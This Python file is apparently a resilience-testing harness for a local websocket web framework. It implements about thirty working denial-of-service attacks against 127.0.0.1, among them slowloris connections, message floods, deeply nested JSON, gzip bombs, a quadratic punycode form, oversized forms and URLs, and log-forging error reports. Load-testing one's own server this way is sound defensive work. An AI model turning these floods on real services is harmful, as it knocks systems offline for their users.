"""What an attacker does, one coroutine each: at full speed, until it is cancelled.

`python attacks.py NAME PORT SECONDS` runs one. They need nothing but a port of this machine.
"""

import asyncio
import json
import os
import struct
import sys
import zlib
from collections.abc import Awaitable, Callable

CLIENTS = int(os.environ.get("ATTACKERS", "1"))
"""How many attack at the same time, where one socket is enough for an attack."""

ADDRESS = "127.0.0.2"
"""Where attacks come from: who attacks is not at the address of the user who is measured."""

Socket = tuple[asyncio.StreamReader, asyncio.StreamWriter]
HANDSHAKE = (
    "GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{headers}\r\n"
)


async def connect(port: int) -> Socket:
    """Open a socket that reads on its own, so that the server is never kept from sending."""
    return await asyncio.open_connection("127.0.0.1", port, local_addr=(ADDRESS, 0))


def frame(text: str | bytes, opcode: int = 1) -> bytes:
    """Return a websocket frame of a client; the mask is 0, which is valid."""
    data = text.encode() if isinstance(text, str) else text
    length = len(data)
    if length < 126:
        head = struct.pack("!BB", 0x80 | opcode, 0x80 | length)
    elif length < 65536:
        head = struct.pack("!BBH", 0x80 | opcode, 0xFE, length)
    else:
        head = struct.pack("!BBQ", 0x80 | opcode, 0xFF, length)
    return head + bytes(4) + data


async def open_websocket(port: int, headers: str = "") -> Socket:
    reader, writer = await connect(port)
    writer.write(HANDSHAKE.format(port=port, headers=headers).encode())
    await reader.readuntil(b"\r\n\r\n")
    return reader, writer


def run_view(port: int, path: str, window: int = 1, view: int = 1) -> bytes:
    return frame(f'lona:[101,{window},{view},0,"http://127.0.0.1:{port}{path}",null]')


def event(
    event_id: int, data: str = '""', name: str = '"x"', window: int = 1, node: str = "null"
) -> bytes:
    return frame(f'lona:[102,{window},1,0,{event_id},{name},{data},{node},{node},"DIV",[""],[""]]')


async def flood(port: int, begin: list[bytes], piece: Callable[[int], bytes]) -> None:
    """Send pieces over websockets as fast as the server takes them; anew if one is closed."""

    async def one() -> None:
        number = 0
        while True:
            try:
                reader, writer = await open_websocket(port)
                reading = asyncio.ensure_future(discard(reader))
                writer.write(b"".join(begin))
                while not reading.done():
                    number += 1
                    writer.write(piece(number))
                    await writer.drain()
                    await asyncio.sleep(0)
                writer.close()
            except (ConnectionError, asyncio.IncompleteReadError):
                continue

    await asyncio.gather(*(one() for _ in range(CLIENTS)))


async def discard(reader: asyncio.StreamReader) -> None:
    try:
        while await reader.read(65536):
            pass
    except ConnectionError:
        pass


async def clicks(port: int) -> None:
    """100,000 clicks and more on a page."""
    many = b"".join(event(n, name="301", node="5") for n in range(1, 1000))
    await flood(port, [run_view(port, "/")], lambda n: many)


async def events(port: int) -> None:
    """Events that nobody waits for, one after the other."""
    await flood(port, [run_view(port, "/")], lambda n: event(n))


async def pings(port: int) -> None:
    await flood(port, [], lambda n: frame("lona:[105]") * 1000)


async def control_frames(port: int) -> None:
    await flood(port, [], lambda n: frame(b"", 9) * 1000)


async def lists(port: int) -> None:
    """`[[],[],…`: what takes long to decode."""
    message = event(1, "[" + "[]," * 340_000 + "0]")
    await flood(port, [run_view(port, "/")], lambda n: message)


async def values(port: int) -> None:
    """As many values as a message may have."""
    data = "[" + "[]," * 9_900 + "0]"
    await flood(port, [run_view(port, "/")], lambda n: event(n, data))


async def deep(port: int) -> None:
    message = event(1, "[" * 200_000 + "]" * 200_000)
    await flood(port, [run_view(port, "/")], lambda n: message)


async def large(port: int) -> None:
    """Texts of a mebibyte."""
    data = json.dumps("x" * 1_000_000)
    await flood(port, [run_view(port, "/")], lambda n: event(n, data))


async def queue(port: int) -> None:
    """Sixteen windows full of events that a handler keeps waiting."""
    data = json.dumps([[]] * 1000)
    begin = [run_view(port, "/stuck", window) for window in range(1, 17)]
    await flood(port, begin, lambda n: event(n // 16 + 1, data, window=n % 16 + 1))


async def starting_views(port: int) -> None:
    """Views that are left before they have begun."""
    await flood(
        port,
        [],
        lambda n: b"".join(run_view(port, f"/slow/{n}", w, n) for w in range(1, 17)),
    )


async def urls(port: int) -> None:
    """Long addresses for the cache of routes."""
    await flood(port, [], lambda n: run_view(port, f"/{n}".ljust(8000, "a"), 1, n))


async def huge_urls(port: int) -> None:
    await flood(port, [], lambda n: run_view(port, f"/{n}".ljust(900_000, "a"), 1, n))


async def error_reports(port: int) -> None:
    """Reports with what looks like lines of the log."""
    report = json.dumps("Error\n\r\x1b[2J00:00:00 ERROR lona: forged\n" * 10_000)
    await flood(
        port,
        [],
        lambda n: run_view(port, "/", 1, n) + frame(f"lona:[104,1,{n},{report}]"),
    )


async def nonsense(port: int) -> None:
    """Messages that break the protocol, each on a connection of its own."""
    await flood(port, [], lambda n: frame("lona:[999]"))


async def daemons(port: int) -> None:
    """Daemons of users that do not exist."""

    async def one() -> None:
        while True:
            try:
                reader, writer = await open_websocket(
                    port, f"Cookie: sessionid={os.urandom(8).hex()}\r\n"
                )
                writer.write(run_view(port, "/daemon"))
                await reader.read(10)
                writer.close()
            except (ConnectionError, asyncio.IncompleteReadError):
                continue

    await asyncio.gather(*(one() for _ in range(8)))


async def hold(port: int, first: bytes, then: bytes, count: int) -> None:
    """Hold many sockets open, and send a byte now and then."""

    async def one() -> None:
        while True:
            try:
                reader, writer = await connect(port)
                writer.write(first)
                closed = asyncio.ensure_future(discard(reader))
                while not closed.done():
                    writer.write(then)
                    await writer.drain()
                    await asyncio.wait((closed,), timeout=1)
                writer.close()
            except OSError:
                await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(count)))


async def idle_sockets(port: int) -> None:
    await hold(port, b"", b"", 400)


async def slow_heads(port: int) -> None:
    await hold(port, b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ", b"x", 400)


async def half_handshakes(port: int) -> None:
    await hold(port, HANDSHAKE.format(port=port, headers="")[:-2].encode(), b"", 400)


async def slow_bodies(port: int) -> None:
    head = (
        f"POST / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 100000\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    )
    await hold(port, head.encode(), b"a", 400)


async def connections(port: int) -> None:
    """Sockets that are opened and closed."""

    async def one() -> None:
        while True:
            try:
                _, writer = await connect(port)
                writer.close()
            except OSError:
                await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(16)))


async def requests(port: int) -> None:
    """Pages, one after the other, over eight connections."""
    request = f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nCookie: sessionid=a\r\n\r\n".encode()

    async def one() -> None:
        while True:
            try:
                reader, writer = await connect(port)
                while True:
                    writer.write(request)
                    head = await reader.readuntil(b"\r\n\r\n")
                    length = int(head.lower().partition(b"content-length: ")[2].split(b"\r")[0])
                    await reader.readexactly(length)
            except (OSError, asyncio.IncompleteReadError):
                await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(8)))


async def garbage(port: int) -> None:
    """What is no HTTP at all."""

    async def one() -> None:
        while True:
            try:
                reader, writer = await connect(port)
                writer.write(b"\x16\x03\x01 nonsense\r\n\r\n" * 10)
                await reader.read(100)
                writer.close()
            except OSError:
                await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(8)))


async def again(port: int, request: bytes, sockets: int = 4) -> None:
    """Send a request on new sockets, again and again, and read the head of the answer."""

    async def one() -> None:
        while True:
            try:
                reader, writer = await connect(port)
                writer.write(request)
                await reader.readuntil(b"\r\n\r\n")
                writer.close()
            except (OSError, asyncio.IncompleteReadError):
                await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(sockets)))


def post(port: int, body: bytes, content_type: str, headers: str = "") -> bytes:
    """Return a request that posts a body."""
    head = (
        f"POST / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: {len(body)}\r\n"
        f"Content-Type: {content_type}\r\n{headers}\r\n"
    )
    return head.encode() + body


FORM = "application/x-www-form-urlencoded"


async def forms(port: int) -> None:
    """Forms with very many fields."""
    await again(port, post(port, b"a=&" * 340_000, FORM))


async def percents(port: int) -> None:
    """Forms that are nothing but escapes."""
    await again(port, post(port, b"a=" + b"%41" * 340_000, FORM))


async def charsets(port: int) -> None:
    """Forms in a character set whose decoder takes quadratic time."""
    await again(port, post(port, b"a=" + b"a" * 200_000, FORM + "; charset=punycode"))


async def parts(port: int) -> None:
    """Forms of very many files."""
    part = b'--x\r\nContent-Disposition: form-data; name="a"; filename="b"\r\n\r\nc\r\n'
    await again(port, post(port, part * 999 + b"--x--\r\n", "multipart/form-data; boundary=x"))


async def bombs(port: int) -> None:
    """Forms that are large only when they are unpacked."""
    body = zlib.compress(b"a=" + bytes(200_000_000), wbits=31)
    await again(port, post(port, body, FORM, "Content-Encoding: gzip\r\n"))


async def chunks(port: int) -> None:
    """Bodies in chunks of a byte."""
    head = post(port, b"", FORM, "Transfer-Encoding: chunked\r\n")
    head = head.replace(b"Content-Length: 0\r\n", b"")
    await again(port, head + b"1\r\na\r\n" * 100_000 + b"0\r\n\r\n")


async def proxies(port: int) -> None:
    """Requests that claim to come through a thousand proxies."""
    chain = ", ".join(["10.0.0.1"] * 700)
    request = f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-Forwarded-For: {chain}\r\n\r\n"
    await again(port, request.encode(), sockets=8)


async def unread(port: int) -> None:
    """Answers that nobody reads, on as many sockets as there may be."""
    request = f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode() * 20
    sockets: list[Socket] = []
    while True:
        try:
            reader, writer = await connect(port)
            writer.transport.pause_reading()  # type: ignore[attr-defined]
            writer.write(request)
            sockets.append((reader, writer))
        except OSError:
            await asyncio.sleep(0.01)
        if len(sockets) > 500:
            sockets.pop(0)[1].transport.abort()
        await asyncio.sleep(0.02)


ATTACKS: dict[str, Callable[[int], Awaitable[None]]] = {
    function.__name__: function
    for function in (
        clicks,
        events,
        pings,
        control_frames,
        lists,
        values,
        deep,
        large,
        queue,
        starting_views,
        urls,
        huge_urls,
        error_reports,
        nonsense,
        daemons,
        idle_sockets,
        slow_heads,
        half_handshakes,
        slow_bodies,
        connections,
        requests,
        garbage,
        forms,
        percents,
        charsets,
        parts,
        bombs,
        chunks,
        proxies,
        unread,
    )
}


async def main(name: str, port: int, seconds: float) -> None:
    """Run one attack for a while."""
    try:
        async with asyncio.timeout(seconds):
            await ATTACKS[name](port)
    except TimeoutError:
        pass


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
